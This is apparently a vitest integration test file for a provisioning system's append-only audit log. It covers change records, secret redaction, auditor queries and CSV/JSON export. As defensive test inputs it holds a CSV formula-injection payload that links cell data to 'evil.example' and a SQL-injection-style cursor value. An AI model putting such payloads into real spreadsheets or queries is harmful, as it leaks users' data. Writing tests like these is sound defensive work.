/**
 * The audit log as evidence: the database refuses to change or remove entries; every provisioning
 * operation of a real run leaves an entry with the target, the object and the before/after of what
 * changed, tied to the person and the run; auditors query it by person, actor, action and time, page
 * through it, and export it as CSV (formula cells neutralised) or JSON.
 */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { auditProvisioning, type ProvisioningAudit } from '../../activities/audit.ts';
import { audit, provisioningAuditSink } from '../../server/db/audit.ts';
import { startScimServer, type ScimServer } from '../peers/scim.ts';
import { errorBody, runView, startedRuns } from '../support/api.ts';
import { definition, edge, node } from '../support/definitions.ts';
import { eventually } from '../support/eventually.ts';
import { startTestSystem, type TestSystem } from '../support/system.ts';

let sys: TestSystem;
let scim: ScimServer;
const scimToken = `scim-audit-token-${randomUUID()}`;
beforeAll(async () => {
  [sys, scim] = await Promise.all([startTestSystem(), startScimServer(scimToken)]);
});
afterAll(async () => {
  await Promise.all([sys.stop(), scim.stop()]);
});

const entry = z.object({
  id: z.string(),
  at: z.string(),
  actor: z.string(),
  action: z.string(),
  targetType: z.string(),
  targetId: z.string(),
  employeeId: z.string().nullable(),
  runId: z.string().nullable(),
  details: z.record(z.string(), z.unknown()),
});
const page = z.object({ entries: z.array(entry), nextCursor: z.string().nullable() });

async function tokenFor(id: string, roles: string[]): Promise<string> {
  expect((await sys.api('POST', '/api/users', { id, displayName: id, roles })).status).toBe(201);
  return z.object({ token: z.string() }).parse((await sys.api('POST', `/api/users/${id}/tokens`, { name: 't' })).body).token;
}

async function getAs(token: string, url: string) {
  return sys.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
}

describe('audit log', () => {
  it('refuses UPDATE, DELETE and TRUNCATE of entries', async () => {
    await audit(sys.db, { actor: 'tester', action: 'test.append', targetType: 'test', targetId: 'x' });
    await expect(sys.db.query("UPDATE audit_log SET actor = 'someone-else' WHERE action = 'test.append'")).rejects.toThrow(/append-only/);
    await expect(sys.db.query("DELETE FROM audit_log WHERE action = 'test.append'")).rejects.toThrow(/append-only/);
    await expect(sys.db.query('TRUNCATE audit_log')).rejects.toThrow(/append-only/);
    const rows = await sys.db.query<{ actor: string }>("SELECT actor FROM audit_log WHERE action = 'test.append'");
    expect(rows).toEqual([{ actor: 'tester' }]);
  });

  it('audits every provisioning operation of a run: target, object, before and after, person and requester', async () => {
    const created = await sys.api('POST', '/api/connections', { id: 'crm-audit', kind: 'scim', name: 'CRM', config: { baseUrl: scim.baseUrl, auth: { mode: 'bearer' } }, secrets: { token: scimToken } });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const def = definition(
      'audited-joiner',
      [
        node({ id: 'start', type: 'start', data: {} }),
        node({
          id: 'create',
          type: 'action',
          data: {
            action: 'scim.createUser',
            connectionId: 'crm-audit',
            params: { userName: { expression: '[mail]' }, externalId: { expression: '[employeeId]' }, givenName: { expression: '[givenName]' }, familyName: 'Hopper', department: { expression: '[department]' } },
          },
        }),
        node({ id: 'move', type: 'action', data: { action: 'scim.updateUser', connectionId: 'crm-audit', params: { matchValue: { expression: '[employeeId]' }, department: 'Research' } } }),
        node({ id: 'end', type: 'end', data: {} }),
      ],
      [edge('start', 'create'), edge('create', 'move'), edge('move', 'end')],
    );
    expect((await sys.api('POST', '/api/definitions', def)).status).toBe(201);
    expect((await sys.api('POST', `/api/definitions/${def.id}/publish`)).status).toBe(201);
    const attributes = { employeeId: 'E-AUD-1', mail: 'grace.hopper@example.com', givenName: 'Grace', department: 'Engineering' };
    const started = startedRuns.parse((await sys.api('POST', '/api/runs', { definitionId: def.id, people: [{ employeeId: 'E-AUD-1', attributes }] })).body);
    const run = started.runs[0];
    if (!run) throw new Error('no run started');
    const done = await eventually(async () => {
      const v = runView.parse((await sys.api('GET', `/api/runs/${run.id}`)).body);
      return v.workflowStatus === 'COMPLETED' || v.workflowStatus === 'FAILED' ? v : undefined;
    }, 'the run to finish');
    expect(done.workflowStatus, JSON.stringify(done.nodes)).toBe('COMPLETED');
    const [requester] = await sys.db.query<{ requested_by: string }>('SELECT requested_by FROM runs WHERE id = $1', [run.id]);

    const res = await sys.api('GET', '/api/audit?employeeId=E-AUD-1');
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const { entries } = page.parse(res.body);
    // Newest first: the update, then the create; both for this person and run, by who started the run.
    expect(entries.map((e) => e.action)).toEqual(['provision.scim.updateUser', 'provision.scim.createUser']);
    for (const e of entries) {
      expect(e).toMatchObject({ actor: requester?.requested_by, targetType: 'scim', targetId: 'crm-audit', employeeId: 'E-AUD-1', runId: run.id });
      expect(e.details).toMatchObject({ runId: run.id, employeeId: 'E-AUD-1', outcome: 'ok' });
    }
    const [update, create] = entries;
    expect(create?.details).toMatchObject({ nodeId: 'create', created: true, input: { userName: 'grace.hopper@example.com', department: 'Engineering' } });
    expect(update?.details).toMatchObject({ nodeId: 'move', changed: ['department'], changes: [{ attribute: 'department', before: 'Engineering', after: 'Research' }] });
    expect(update?.details.object).toBe(create?.details.object);
    // The connection's token is in no entry.
    expect(JSON.stringify(entries)).not.toContain(scimToken);
  });

  it('redacts secret inputs, records failures with their message, and leaves reads and core steps out', async () => {
    const written: ProvisioningAudit[] = [];
    const sink = provisioningAuditSink(sys.db);
    const implementations = auditProvisioning(
      async (e) => {
        written.push(e);
        await sink(e);
      },
      {
        // Stand-ins for connector implementations: this test is about the wrapper around them.
        'ad.setPassword': async () => Promise.resolve({ dn: 'CN=Ada,OU=Staff,DC=example,DC=com', changed: true }),
        'ad.deleteUser': async () => Promise.reject(new Error('the server is busy')),
        'ad.findUser': async () => Promise.resolve({ found: true }),
        'core.log': async () => Promise.resolve({}),
      },
    );
    const call = (nodeId: string, input: Record<string, unknown>) => ({ runId: `run-${randomUUID()}`, nodeId, connectionId: 'corp-ad', input });
    await implementations['ad.setPassword']?.(call('pw', { anchor: 'E-9', password: 'Sup3r-Secret!', mustChange: true }));
    await expect(implementations['ad.deleteUser']?.(call('del', { anchor: 'E-9' }))).rejects.toThrow('busy');
    await implementations['ad.findUser']?.(call('find', { anchor: 'E-9' }));
    await implementations['core.log']?.(call('log', { message: 'hi' }));

    expect(written.map((e) => e.action)).toEqual(['provision.ad.setPassword', 'provision.ad.deleteUser']);
    expect(written[0]?.details).toMatchObject({ object: 'CN=Ada,OU=Staff,DC=example,DC=com', input: { anchor: 'E-9', password: '[redacted]', mustChange: true }, outcome: 'ok' });
    expect(written[1]?.details).toMatchObject({ object: 'E-9', outcome: 'error', message: 'the server is busy' });
    const stored = await sys.db.query<{ details: unknown; actor: string }>("SELECT details, actor FROM audit_log WHERE action LIKE 'provision.ad.%'");
    expect(JSON.stringify(stored)).not.toContain('Sup3r-Secret!');
    // A run the database does not know (a direct call) is attributed to the run id.
    expect(stored.every((r) => r.actor.startsWith('run:run-'))).toBe(true);
  });

  it('answers auditors and admins by person, actor, action and time, newest first, a page at a time', async () => {
    for (let i = 0; i < 5; i++) await audit(sys.db, { actor: 'pager', action: `paging.step${i}`, targetType: 'test', targetId: String(i), employeeId: 'E-PAGE' });
    const auditor = await tokenFor('auditor-1', ['auditor']);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res = await getAs(auditor, `/api/audit?actor=pager&limit=2${cursor !== null ? `&cursor=${cursor}` : ''}`);
      expect(res.statusCode, res.body).toBe(200);
      const p = page.parse(res.json());
      seen.push(...p.entries.map((e) => e.action));
      cursor = p.nextCursor;
    } while (cursor !== null);
    expect(seen).toEqual(['paging.step4', 'paging.step3', 'paging.step2', 'paging.step1', 'paging.step0']);

    const byPrefix = page.parse((await sys.api('GET', '/api/audit?action=paging&employeeId=E-PAGE')).body);
    expect(byPrefix.entries).toHaveLength(5);
    expect(page.parse((await sys.api('GET', '/api/audit?action=paging.step3')).body).entries.map((e) => e.targetId)).toEqual(['3']);
    // A prefix matches whole dotted segments, and LIKE wildcards in it are literal.
    expect(page.parse((await sys.api('GET', '/api/audit?action=pag')).body).entries).toEqual([]);
    expect(page.parse((await sys.api('GET', '/api/audit?action=paging.step_')).body).entries).toEqual([]);

    const future = new Date(Date.now() + 3_600_000).toISOString();
    expect(page.parse((await sys.api('GET', `/api/audit?actor=pager&from=${encodeURIComponent(future)}`)).body).entries).toEqual([]);
    expect(page.parse((await sys.api('GET', `/api/audit?actor=pager&to=${encodeURIComponent(future)}&from=2020-01-01`)).body).entries).toHaveLength(5);
    // A day as `to` includes that whole day (UTC): the entries' own day finds them, the day before does not.
    const newest = page.parse((await sys.api('GET', '/api/audit?actor=pager&limit=1')).body).entries[0];
    const day = newest?.at.slice(0, 10) ?? '';
    const dayBefore = new Date(Date.parse(day) - 86_400_000).toISOString().slice(0, 10);
    expect(page.parse((await sys.api('GET', `/api/audit?actor=pager&from=${day}&to=${day}`)).body).entries.length).toBeGreaterThan(0);
    expect(page.parse((await sys.api('GET', `/api/audit?actor=pager&to=${dayBefore}`)).body).entries).toEqual([]);

    const designer = await tokenFor('designer-1', ['designer']);
    expect((await getAs(designer, '/api/audit')).statusCode).toBe(403);
    expect((await getAs(designer, '/api/audit/export')).statusCode).toBe(403);
    expect((await sys.app.inject({ method: 'GET', url: '/api/audit' })).statusCode).toBe(401);
  });

  it('refuses bad dates, unknown parameters and forged cursors with the field named', async () => {
    const bad = async (query: string) => {
      const res = await sys.api('GET', `/api/audit?${query}`);
      expect(res.status, query).toBe(400);
      return errorBody.parse(res.body).error.details?.map((d) => d.path) ?? [];
    };
    expect(await bad('from=yesterday')).toEqual(['querystring.from']);
    expect(await bad('to=2026-13-45')).toEqual(['querystring.to']);
    expect(await bad('from=2026-02-01&to=2026-01-01')).toEqual(['querystring.to']);
    expect(await bad('cursor=1%20OR%201=1')).toEqual(['querystring.cursor']);
    expect(await bad('limit=100000')).toEqual(['querystring.limit']);
    expect((await sys.api('GET', '/api/audit?sort=actor')).status).toBe(400);
    expect((await sys.api('GET', '/api/audit/export?format=xml')).status).toBe(400);
  });

  it('exports CSV with formula cells neutralised, and JSON, and audits the export', async () => {
    await audit(sys.db, { actor: '=HYPERLINK("http://evil.example/?"&A1,"click")', action: 'export.probe', targetType: 'test', targetId: '+1+1', details: { note: '@SUM(1)' } });
    await audit(sys.db, { actor: 'plain, "quoted" actor', action: 'export.probe', targetType: 'test', targetId: '-2' });

    const csv = await sys.app.inject({ method: 'GET', url: '/api/audit/export?action=export.probe&format=csv', headers: { authorization: 'Bearer test-admin-token-0123456789' } });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="audit-.*\.csv"$/);
    const rows = z.array(z.record(z.string(), z.string())).parse(parse(csv.body, { columns: true }));
    expect(rows.map((r) => [r.actor, r.targetId])).toEqual([
      ['plain, "quoted" actor', "'-2"],
      [`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1+1"],
    ]);
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const json = await sys.api('GET', '/api/audit/export?action=export.probe&format=json');
    expect(json.status).toBe(200);
    const exported = z.array(entry).parse(json.body);
    expect(exported.map((e) => e.actor)).toEqual(['plain, "quoted" actor', '=HYPERLINK("http://evil.example/?"&A1,"click")']);
    expect(exported[1]?.details).toEqual({ note: '@SUM(1)' });

    const exports = page.parse((await sys.api('GET', '/api/audit?action=audit.export')).body).entries;
    expect(exports.map((e) => e.targetId)).toEqual(['json', 'csv']);
    expect(exports[0]?.details).toMatchObject({ filter: { action: 'export.probe' } });
  });
});
